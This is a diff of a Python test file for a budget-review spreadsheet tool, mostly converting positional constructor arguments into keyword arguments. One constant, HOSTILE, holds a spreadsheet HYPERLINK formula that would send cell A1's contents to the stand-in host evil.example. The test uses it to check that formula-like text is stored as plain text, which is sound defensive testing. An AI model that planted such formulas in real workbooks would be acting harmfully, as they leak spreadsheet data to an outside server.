@@ -26,30 +26,47 @@ HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
 def _line(row: int, code: str, kind: str, amount: str, description: str = "Work") -> BudgetLine:
-    return BudgetLine(row, "", code, kind, description, Decimal(amount))
+    return BudgetLine(
+        row=row,
+        sub_job="",
+        cost_code=code,
+        cost_type=kind,
+        description=description,
+        amount=Decimal(amount),
+    )
 
 
 def _document(lines: tuple[BudgetLine, ...]) -> BudgetDocument:
     return BudgetDocument(
-        "P-7", lines, "Depot", "Ada Admin", sum((line.amount for line in lines), Decimal("0.00"))
+        project_number="P-7",
+        lines=lines,
+        project_name="Depot",
+        prepared_by="Ada Admin",
+        stated_total=sum((line.amount for line in lines), Decimal("0.00")),
     )
 
 
 def _content(document: BudgetDocument, resend: ResendAssessment | None = None) -> ReviewContent:
     submission = Submission(
-        "P-7",
-        2 if resend else 1,
-        Action.SEND,
-        "in.xlsx",
-        "0" * 64,
-        "f",
-        "Ada Admin",
-        NOW,
-        "P-7_v1_review.xlsx",
-        len(document.lines),
-        str(document.total),
+        project_number="P-7",
+        version=2 if resend else 1,
+        action=Action.SEND,
+        file_name="in.xlsx",
+        file_sha256="0" * 64,
+        fingerprint="f",
+        sender="Ada Admin",
+        at=NOW,
+        review_file="P-7_v1_review.xlsx",
+        line_count=len(document.lines),
+        total=str(document.total),
     )
-    return ReviewContent(submission, document, ["Carl Accountant"], [], resend)
+    return ReviewContent(
+        submission=submission,
+        document=document,
+        approvers=["Carl Accountant"],
+        warnings=[],
+        resend=resend,
+    )
 
 
 def test_review_workbook_has_the_contracted_names_dropdown_and_line_columns(tmp_path: Path) -> None:
@@ -79,12 +96,26 @@ def test_a_blank_review_workbook_reads_as_no_decision(tmp_path: Path) -> None:
 
 def test_text_that_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
     amount, qty, cost = Decimal("25.00"), Decimal("2"), Decimal("12.5")
-    priced = BudgetLine(3, "", "02-200", HOSTILE, HOSTILE, amount, qty, HOSTILE, cost)
+    priced = BudgetLine(
+        row=3,
+        sub_job="",
+        cost_code="02-200",
+        cost_type=HOSTILE,
+        description=HOSTILE,
+        amount=amount,
+        unit_qty=qty,
+        uom=HOSTILE,
+        unit_cost=cost,
+    )
     document = _document((_line(2, "01-100", "L", "10.00", HOSTILE), priced))
     review, rejected = tmp_path / "review.xlsx", tmp_path / "rejected.xlsx"
     write_review_workbook(_content(document), review)
     flag = LineFlag(priced.key, HOSTILE)
-    write_rejected_workbook(document, Rejection(1, "Carl", NOW, (HOSTILE,), (flag,)), rejected)
+    write_rejected_workbook(
+        document,
+        Rejection(version=1, approver="Carl", at=NOW, reasons=(HOSTILE,), flags=(flag,)),
+        rejected,
+    )
 
     formulas = {}
     for path in (review, rejected):
@@ -106,20 +137,24 @@ def test_the_rejected_workbook_reads_back_as_the_same_budget(tmp_path: Path) -> 
         _line(2, "01-100", "L", "12000.00"),
         _line(3, "03-300", "M", "45000.50"),
         BudgetLine(
-            4,
-            "B",
-            "09-900",
-            "S",
-            "Paint",
-            Decimal("8000.00"),
-            Decimal("2.5"),
-            "EA",
-            Decimal("3200"),
+            row=4,
+            sub_job="B",
+            cost_code="09-900",
+            cost_type="S",
+            description="Paint",
+            amount=Decimal("8000.00"),
+            unit_qty=Decimal("2.5"),
+            uom="EA",
+            unit_cost=Decimal("3200"),
         ),
     )
     document = _document(lines)
     rejection = Rejection(
-        1, "Carl", NOW, ("too high",), (LineFlag(LineKey("", "03-300", "M"), "check"),)
+        version=1,
+        approver="Carl",
+        at=NOW,
+        reasons=("too high",),
+        flags=(LineFlag(LineKey("", "03-300", "M"), "check"),),
     )
     target = tmp_path / "rejected.xlsx"
     write_rejected_workbook(document, rejection, target)
@@ -136,7 +171,11 @@ def test_resend_review_lists_changes_and_reasons(tmp_path: Path) -> None:
     before = (_line(2, "01-100", "L", "10.00"), _line(3, "02-200", "M", "20.00"))
     after = (_line(2, "01-100", "L", "15.00"), _line(3, "04-400", "E", "5.00"))
     rejection = Rejection(
-        1, "Carl", NOW, ("01-100 is too low",), (LineFlag(LineKey("", "02-200", "M"), "not ours"),)
+        version=1,
+        approver="Carl",
+        at=NOW,
+        reasons=("01-100 is too low",),
+        flags=(LineFlag(LineKey("", "02-200", "M"), "not ours"),),
     )
     target = tmp_path / "review.xlsx"
     write_review_workbook(
